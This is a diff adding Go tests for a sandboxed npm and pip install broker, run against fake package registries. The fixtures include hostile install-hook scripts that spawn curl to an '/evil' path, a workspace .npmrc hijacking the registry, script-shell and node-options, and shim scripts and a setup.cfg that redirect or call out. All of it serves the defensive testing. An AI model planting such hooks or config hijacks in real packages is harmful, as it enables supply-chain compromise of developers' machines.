@@ -1,0 +1,217 @@
+package broker_test
+
+import (
+	"archive/tar"
+	"archive/zip"
+	"bytes"
+	"compress/gzip"
+	"context"
+	"crypto/sha1" //nolint:gosec // what npm wants
+	"encoding/hex"
+	"encoding/json"
+	"net"
+	"net/http"
+	"net/http/httptest"
+	"net/netip"
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+
+	"github.com/tidemark/tidemark/internal/box/relay"
+	"github.com/tidemark/tidemark/internal/test/boxtest"
+)
+
+// market is an office whose others are registries of packages.
+func newMarket(t *testing.T) *office {
+	t.Helper()
+	o := &office{World: boxtest.New(t), t: t}
+	mux := http.NewServeMux()
+	o.npm(mux)
+	o.pip(mux)
+	s := httptest.NewUnstartedServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		o.mu.Lock()
+		o.seen = append(o.seen, r.Host+r.URL.Path)
+		o.mu.Unlock()
+		mux.ServeHTTP(w, r)
+	}))
+	s.TLS = o.certificate("registry.npmjs.org", "pypi.org", "files.pythonhosted.org")
+	s.StartTLS()
+	t.Cleanup(func() {
+		s.CloseClientConnections()
+		s.Close()
+	})
+	at := s.Listener.Addr().String()
+	o.opts = relay.Options{
+		Resolve: func(_ context.Context, name string) ([]netip.Addr, error) {
+			o.mu.Lock()
+			defer o.mu.Unlock()
+			o.names = append(o.names, name)
+			return []netip.Addr{netip.MustParseAddr("8.8.8.8")}, nil
+		},
+		Dial: func(ctx context.Context, _ netip.AddrPort) (net.Conn, error) {
+			return (&net.Dialer{}).DialContext(ctx, "tcp", at)
+		},
+	}
+	return o
+}
+
+const evilJS = `try{require('fs').writeFileSync(process.env.INIT_CWD+'/ran-'+process.argv[2],'')}catch(e){}
+require('child_process').spawnSync('/usr/bin/curl',['-sk','--max-time','5','https://registry.npmjs.org/evil/'+process.argv[2]])`
+
+// npm offers a package with scripts that do what they can.
+func (o *office) npm(mux *http.ServeMux) {
+	scripts := map[string]string{}
+	for _, s := range []string{"preinstall", "install", "postinstall", "prepare"} {
+		scripts[s] = "node evil.js " + s
+	}
+	about := map[string]any{"name": "nice", "version": "1.0.0", "scripts": scripts, "hasInstallScript": true}
+	raw, err := json.Marshal(about)
+	if err != nil {
+		o.t.Fatal(err)
+	}
+	var b bytes.Buffer
+	z := gzip.NewWriter(&b)
+	w := tar.NewWriter(z)
+	for name, text := range map[string]string{"package/package.json": string(raw), "package/evil.js": evilJS, "package/index.js": "module.exports = 1\n"} {
+		if err := w.WriteHeader(&tar.Header{Name: name, Mode: 0o644, Size: int64(len(text))}); err != nil {
+			o.t.Fatal(err)
+		}
+		if _, err := w.Write([]byte(text)); err != nil {
+			o.t.Fatal(err)
+		}
+	}
+	if err := w.Close(); err != nil {
+		o.t.Fatal(err)
+	}
+	if err := z.Close(); err != nil {
+		o.t.Fatal(err)
+	}
+	sum := sha1.Sum(b.Bytes()) //nolint:gosec // as above
+	about["dist"] = map[string]string{"tarball": "https://registry.npmjs.org/nice/-/nice-1.0.0.tgz", "shasum": hex.EncodeToString(sum[:])}
+	mux.HandleFunc("/nice", func(w http.ResponseWriter, _ *http.Request) {
+		w.Header().Set("Content-Type", "application/vnd.npm.install-v1+json")
+		_ = json.NewEncoder(w).Encode(map[string]any{"name": "nice", "dist-tags": map[string]string{"latest": "1.0.0"}, "versions": map[string]any{"1.0.0": about}})
+	})
+	mux.HandleFunc("/nice/-/nice-1.0.0.tgz", func(w http.ResponseWriter, _ *http.Request) { _, _ = w.Write(b.Bytes()) })
+}
+
+// pip offers a wheel, and a package that would have to be built.
+func (o *office) pip(mux *http.ServeMux) {
+	var b bytes.Buffer
+	z := zip.NewWriter(&b)
+	for _, f := range [][2]string{
+		{"nice.py", "x = 1\n"}, {"nice-1.0.dist-info/METADATA", "Metadata-Version: 2.1\nName: nice\nVersion: 1.0\n"},
+		{"nice-1.0.dist-info/WHEEL", "Wheel-Version: 1.0\nGenerator: x\nRoot-Is-Purelib: true\nTag: py3-none-any\n"}, {"nice-1.0.dist-info/RECORD", ""},
+	} {
+		w, err := z.Create(f[0])
+		if err == nil {
+			_, err = w.Write([]byte(f[1]))
+		}
+		if err != nil {
+			o.t.Fatal(err)
+		}
+	}
+	if err := z.Close(); err != nil {
+		o.t.Fatal(err)
+	}
+	mux.HandleFunc("/simple/nice/", func(w http.ResponseWriter, _ *http.Request) {
+		w.Header().Set("Content-Type", "text/html")
+		_, _ = w.Write([]byte(`<a href="https://files.pythonhosted.org/nice-1.0-py3-none-any.whl">nice-1.0-py3-none-any.whl</a>`))
+	})
+	mux.HandleFunc("/simple/built/", func(w http.ResponseWriter, _ *http.Request) {
+		w.Header().Set("Content-Type", "text/html")
+		_, _ = w.Write([]byte(`<a href="https://files.pythonhosted.org/built-1.0.tar.gz">built-1.0.tar.gz</a>`))
+	})
+	mux.HandleFunc("/nice-1.0-py3-none-any.whl", func(w http.ResponseWriter, _ *http.Request) { _, _ = w.Write(b.Bytes()) })
+}
+
+// quiet fails if anything with the capability was used for something else.
+func (o *office) quiet(hosts ...string) {
+	o.t.Helper()
+	o.mu.Lock()
+	defer o.mu.Unlock()
+	for _, s := range o.seen {
+		if strings.Contains(s, "/evil") {
+			o.t.Errorf("somebody with the capability asked for %s", s)
+		}
+	}
+	for _, n := range o.names {
+		if !strings.Contains(" "+strings.Join(hosts, " ")+" ", " "+n+" ") {
+			o.t.Errorf("the name %s was asked outside", n)
+		}
+	}
+	if len(o.seen) == 0 {
+		o.t.Error("nobody was asked for anything")
+	}
+}
+
+// A package's scripts run, in the session's box: while there was the capability they did not. What a hostile workspace says of npm is
+// not heard while there is.
+func TestInstallOfANPMPackage(t *testing.T) {
+	boxtest.Needs(t, "npm", "node", "curl")
+	o := newMarket(t)
+	o.Put(filepath.Join(o.Work, "package.json"), `{"name": "site", "version": "1.0.0", "scripts": {"preinstall": "/usr/bin/curl -sk https://registry.npmjs.org/evil/own"}}`)
+	o.Put(filepath.Join(o.Work, ".npmrc"), "registry=https://evil.example/\nscript-shell="+o.Work+"/x.sh\nnode-options=--require "+o.Work+"/x.js\ngit="+o.Work+"/x.sh\n")
+	o.Put(filepath.Join(o.Work, "x.js"), evilJS)
+	o.Put(filepath.Join(o.Work, "x.sh"), "#!/bin/sh\n/usr/bin/curl -sk https://registry.npmjs.org/evil/shell\nexec /bin/sh \"$@\"\n")
+	o.Put(filepath.Join(o.Work, "npm"), "#!/bin/sh\n/usr/bin/curl -sk https://registry.npmjs.org/evil/npm\n")
+	d, err := o.prepare("npm install nice")
+	if err != nil {
+		t.Fatal(err)
+	}
+	if q := d.Question; q.Host != "registry.npmjs.org" || len(q.Packages) != 1 || q.Packages[0] != "nice" {
+		t.Errorf("%+v", q)
+	}
+	if code, out, err := o.run(d); code == 0 || err != nil { // the session's npm believes the workspace, and finds nothing
+		t.Errorf("%d %v\n%s", code, err, out)
+	}
+	o.quiet("registry.npmjs.org")
+	if err := os.Remove(filepath.Join(o.Work, ".npmrc")); err != nil {
+		t.Fatal(err)
+	}
+	if code, out, err := o.run(d); code != 0 || err != nil {
+		t.Fatalf("%d %v\n%s", code, err, out)
+	}
+	o.quiet("registry.npmjs.org")
+	if _, err := os.Stat(filepath.Join(o.Work, "node_modules/nice/index.js")); err != nil {
+		t.Error(err)
+	}
+	if _, err := os.Stat(filepath.Join(o.Work, "ran-postinstall")); err != nil {
+		t.Errorf("its scripts did not run, so nothing is proven: %v", err)
+	}
+}
+
+// A wheel is installed; what would have to be built is not even fetched.
+func TestInstallOfAPythonPackage(t *testing.T) {
+	boxtest.Needs(t, "python3", "curl")
+	o := newMarket(t)
+	o.Must("/usr/bin/python3 -m pip --version || exit 77; /usr/bin/python3 -m venv .venv && ls .venv/bin/pip")
+	for i, e := range o.Env {
+		if strings.HasPrefix(e, "PATH=") {
+			o.Env[i] = "PATH=" + o.Work + "/.venv/bin:" + strings.TrimPrefix(e, "PATH=")
+		}
+	}
+	o.Put(filepath.Join(o.Work, "pip.py"), "import os; os.system('/usr/bin/curl -sk https://pypi.org/evil/pip')\n")
+	o.Put(filepath.Join(o.Work, "setup.cfg"), "[global]\nindex-url = https://evil.example/\n")
+	d, err := o.prepare("pip install nice")
+	if err != nil {
+		t.Fatal(err)
+	}
+	if code, out, err := o.run(d); code != 0 || err != nil {
+		t.Fatalf("%d %v\n%s", code, err, out)
+	}
+	o.Must(".venv/bin/python -c 'import nice'")
+	if d, err = o.prepare("pip install built"); err != nil {
+		t.Fatal(err)
+	}
+	if code, out, err := o.run(d); code == 0 && err == nil {
+		t.Errorf("it was installed: %s", out)
+	}
+	o.quiet("pypi.org", "files.pythonhosted.org")
+	for _, s := range o.seen {
+		if strings.Contains(s, "built-1.0") {
+			t.Error("what must be built was fetched")
+		}
+	}
+}
